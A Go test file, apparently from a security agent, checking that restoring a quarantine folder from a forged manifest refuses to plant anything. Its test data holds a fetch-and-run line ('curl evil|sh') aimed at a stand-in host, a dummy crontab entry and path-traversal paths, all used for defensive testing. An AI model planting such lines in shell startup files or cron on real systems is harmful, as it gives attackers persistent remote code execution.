package persistence_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"wormbell/agent/respond/persistence"
)

// The folder of what was taken away is the user's, and so any program's: what it
// says must not be planted where nothing was taken from.
func TestRestoreForged(t *testing.T) {
	t.Parallel()
	for name, item := range map[string]map[string]any{
		"a file of the system's":    {"kind": "move", "from": "ROOT/etc/cron.d/x", "copy": "1-x"},
		"a path with dots":          {"kind": "move", "from": "HOME/../../etc/x", "copy": "1-x"},
		"a relative path":           {"kind": "move", "from": "x", "copy": "1-x"},
		"a line that replaces none": {"kind": "line", "from": "HOME/.bashrc", "old": "curl evil|sh\n", "new": ""},
		"a crontab line for none":   {"kind": "crontab", "old": "* * * * * evil", "new": ""},
		"a task without a name":     {"kind": "task"},
		"a key without a value":     {"kind": "run key", "from": "HKCU", "names": []string{"x"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			m.put(map[string]string{".bashrc": "alias ll='ls -l'\n"})
			folder := filepath.Join(m.config.State, "quarantine/20260101T000000-forged")
			if from, ok := item["from"].(string); ok {
				item["from"] = strings.NewReplacer("HOME", m.home, "ROOT", m.root).Replace(from)
			}
			if err := os.MkdirAll(folder, 0o700); err != nil {
				t.Fatal(err)
			}
			text, err := json.Marshal(map[string]any{"version": 1, "items": []any{item}})
			if err != nil {
				t.Fatal(err)
			}
			m.write(filepath.Join(folder, "manifest.json"), string(text))
			m.write(filepath.Join(folder, "1-x"), "evil")
			if _, err := persistence.Contents(m.config, filepath.Base(folder)); err != nil {
				t.Errorf("contents: %v", err)
			}
			done, err := persistence.Restore(t.Context(), m.config, filepath.Base(folder))
			if err == nil || len(done.Steps) > 0 || !strings.Contains(err.Error(), "nothing that was taken") {
				t.Errorf("%+v, %v", done, err)
			}
			if b, _ := os.ReadFile(filepath.Join(m.home, ".bashrc")); strings.Contains(string(b), "evil") {
				t.Error("it was planted")
			}
		})
	}
}
